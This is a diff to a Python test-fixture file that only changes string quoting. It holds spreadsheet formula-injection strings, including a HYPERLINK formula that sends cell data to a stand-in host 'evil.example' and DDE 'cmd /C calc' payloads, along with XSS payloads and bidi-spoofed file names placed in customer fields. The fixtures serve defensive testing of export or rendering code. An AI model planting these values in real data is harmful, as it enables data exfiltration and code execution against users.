@@ -35,7 +35,7 @@ FIXED = dt.datetime(2026, 1, 1)
 STRINGS: dict[str, list[str]] = {
     "formula": [
         "=1+1",
-        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
         "+1+1",
         "-2+3+cmd|' /C calc'!A0",
         "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -47,8 +47,8 @@ STRINGS: dict[str, list[str]] = {
     "html": [
         "<script>alert(1)</script>",
         "<img src=x onerror=alert(1)>",
-        "\"><svg onload=alert(1)>",
-        "<a href=\"javascript:alert(1)\">x</a>",
+        '"><svg onload=alert(1)>',
+        '<a href="javascript:alert(1)">x</a>',
         "&lt;b&gt; &amp; {{ 7*7 }}",
     ],
     "bidi": ["Invoice\u202egnp.exe", "\u2067Acme\u2069 Ltd", "Nina\u200f"],
@@ -69,7 +69,7 @@ def accepted_rows() -> dict[str, list[dict[str, Any]]]:
         "Customers": [
             {
                 "external_id": CUSTOMER,
-                "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") \U0001f355",
+                "name": '=HYPERLINK("http://evil.example/?"&A1,"Click") \U0001f355',
                 "primary_email": "=1+2@sec.example.com",
                 "address_line1": "+1+1 Main St \u202egnp.exe",
                 "address_line2": "-2+3+cmd|' /C calc'!A0",
@@ -108,7 +108,7 @@ def accepted_rows() -> dict[str, list[dict[str, Any]]]:
             for n, (local, first, last) in enumerate(
                 [
                     ("=1+2", "=1+1", "\u2067Nina\u2069 <b>Lee</b>"),
-                    ("+tag", "@Ann", "-Lee \"><svg onload=alert(1)>"),
+                    ("+tag", "@Ann", '-Lee "><svg onload=alert(1)>'),
                 ]
             )
         ],
